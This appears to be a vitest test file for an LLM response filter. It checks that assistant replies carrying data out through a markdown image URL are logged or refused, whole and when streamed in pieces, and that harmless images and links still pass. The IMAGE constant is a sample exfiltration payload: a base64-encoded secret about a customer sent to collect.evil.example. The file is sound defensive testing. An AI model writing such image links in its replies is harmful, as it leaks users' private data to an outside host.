// Data that a reply would carry away in an address: noted or refused, whole or streamed, however it is cut.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Bench } from '../dlp/bench.ts';
import { contentOf, DONE, said, startBench } from '../dlp/bench.ts';
import { asking } from '../kit/chat.ts';
import { json } from '../kit/upstream.ts';

let bench: Bench;
beforeAll(async () => {
  bench = await startBench({
    noting: { response: { pii: 'off', secrets: 'off', injection: 'log' } },
    blocking: { response: { pii: 'off', secrets: 'off', injection: 'block' } },
    off: { response: { pii: 'off', secrets: 'off', injection: 'off' } },
  });
});
afterAll(() => bench.stop());

const SECRET = 'Q3VzdG9tZXIgSmFuZSBEb2UgYXNrZWQgYWJvdXQgaGVyIGRpYWdub3NpcyBhbmQgaGVyIGxvYW4';
const IMAGE = `Here you are. ![chart](https://collect.evil.example/p.png?data=${SECRET}) Anything else?`;
const HARMLESS =
  'See ![logo](https://cdn.acme.example/logo.png) and [the manual](https://acme.example/manual?page=2) [1].';
const wholeOf = (content: string) =>
  json({ choices: [{ index: 0, message: { role: 'assistant', content } }] });
const cut = (text: string, size: number): string[] =>
  Array.from({ length: Math.ceil(text.length / size) }, (_, i) => text.slice(i * size, (i + 1) * size));
const streamOf = (content: string, size: number) => ({
  sse: [...cut(content, size).map((piece) => said(piece)), DONE],
});

describe('a reply with an image that carries data away', () => {
  it('is noted in the record and passes where the policy says log', async () => {
    const { reply, sealed } = await bench.ask('noting', asking('x'), wholeOf(IMAGE));
    expect(reply.text).toContain(SECRET);
    expect(sealed).toMatchObject({ injection: [{ direction: 'response', reasons: ['markdown-image'] }] });
    const streamed = await bench.ask('noting', asking('x', { stream: true }), streamOf(IMAGE, 5));
    expect(contentOf(streamed.reply.text)).toBe(IMAGE);
    expect(streamed.sealed).toMatchObject({ injection: [{ direction: 'response' }] });
  });

  it('is refused where the policy blocks, whole and at every way of cutting, before any of the address has left', async () => {
    const { reply, sealed } = await bench.ask('blocking', asking('x'), wholeOf(IMAGE));
    expect([reply.status, sealed.code]).toEqual([403, 'reply_exfiltrates']);
    expect(reply.text).not.toContain('evil.example');
    for (const size of [1, 2, 7, 40, 500]) {
      const streamed = await bench.ask('blocking', asking('x', { stream: true }), streamOf(IMAGE, size));
      expect(streamed.reply.text).not.toMatch(/evil|Q3Vz/);
      expect(streamed.reply.text).not.toContain('[DONE]');
      expect(streamed.sealed).toMatchObject({ ending: 'refused', code: 'reply_exfiltrates' });
    }
  });
});

it('an ordinary image, link or citation is let through, whole and streamed', async () => {
  const { reply, sealed } = await bench.ask('blocking', asking('x'), wholeOf(HARMLESS));
  expect([reply.status, sealed.injection]).toEqual([200, []]);
  for (const size of [1, 9]) {
    const streamed = await bench.ask('blocking', asking('x', { stream: true }), streamOf(HARMLESS, size));
    expect(contentOf(streamed.reply.text)).toBe(HARMLESS);
  }
});

it('a policy that says off looks at nothing', async () => {
  const { reply, sealed } = await bench.ask('off', asking('x'), wholeOf(IMAGE));
  expect([reply.status, sealed.injection]).toEqual([200, []]);
});
